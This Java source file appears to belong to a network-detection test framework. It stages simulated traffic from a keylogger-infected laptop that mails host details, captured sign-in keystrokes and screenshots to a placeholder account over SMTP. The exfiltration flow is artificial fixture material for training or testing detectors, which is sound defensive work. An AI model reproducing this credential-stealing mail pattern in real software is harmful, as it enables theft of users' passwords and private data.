package wolfhound.scenarios;

import wolfhound.model.Behaviour;
import wolfhound.scenarios.stage.Actor;
import wolfhound.scenarios.stage.Bodies;
import wolfhound.scenarios.stage.Machine;
import wolfhound.scenarios.stage.Mail;
import wolfhound.scenarios.stage.Platform;
import wolfhound.scenarios.stage.Smtp;
import wolfhound.scenarios.stage.Stage;

/// A bought keylogger that reports by a public mail service: no server of its own, nothing to list.
final class PerfectKeylogger extends Guilty {
    PerfectKeylogger() {
        super(
                "perfect-keylogger",
                "Perfect Keylogger",
                "A keylogger mails what its victim types through a public mail service",
                "The mail service is innocent; the letter speaks of the very machine it comes from");
    }

    @Override
    public void stage(Stage stage) {
        Actor laptop = stage.workstation("laptop", Platform.WINDOWS);
        laptop.joins().isInfected(Behaviour.THEFT).pauses(4);
        Machine self = laptop.machine();
        Machine service = stage.site("smtp.mail-service.example");
        String account = stage.word(9) + "@mail-service.example";
        Mail installed =
                Mail.from(account, account)
                        .with("From: " + account, "To: " + account)
                        .with(
                                "Subject: Perfect Keylogger was installed successfully: "
                                        + self.hostName())
                        .text(
                                "Congratulations! Perfect Keylogger was successfully installed.\r\nComputer: "
                                        + self.hostName()
                                        + "\r\nUser: "
                                        + self.userName()
                                        + "\r\nIP address: "
                                        + self.address());
        send(laptop, service, account, installed);
        int logs = stage.between(2, 4);
        for (int i = 0; i < logs; i++) {
            Mail log =
                    Mail.from(account, account)
                            .with("From: " + account, "To: " + account)
                            .with(
                                    "Subject: Perfect Keylogger log: "
                                            + self.userName()
                                            + "@"
                                            + self.hostName())
                            .text(
                                    "Log upload date: 03.03.2026\r\nComputer name: "
                                            + self.hostName()
                                            + "\r\nUser name: "
                                            + self.userName()
                                            + "\r\nWindow: Sign in - social.example\r\nKeystrokes: "
                                            + self.userName()
                                            + "[TAB]correct-horse[ENTER]")
                            .attached(
                                    "screenshot" + i + ".jpg",
                                    "image/jpeg",
                                    new Bodies(stage).jpeg(6_000));
            send(laptop.pauses(25), service, account, log);
        }
    }

    private static void send(Actor laptop, Machine service, String account, Mail mail) {
        laptop.knows("smtp.mail-service.example");
        Smtp.to(laptop, service, 25, laptop.machine().hostName())
                .logsIn(account, "hunter2")
                .sends(mail)
                .quits();
    }
}
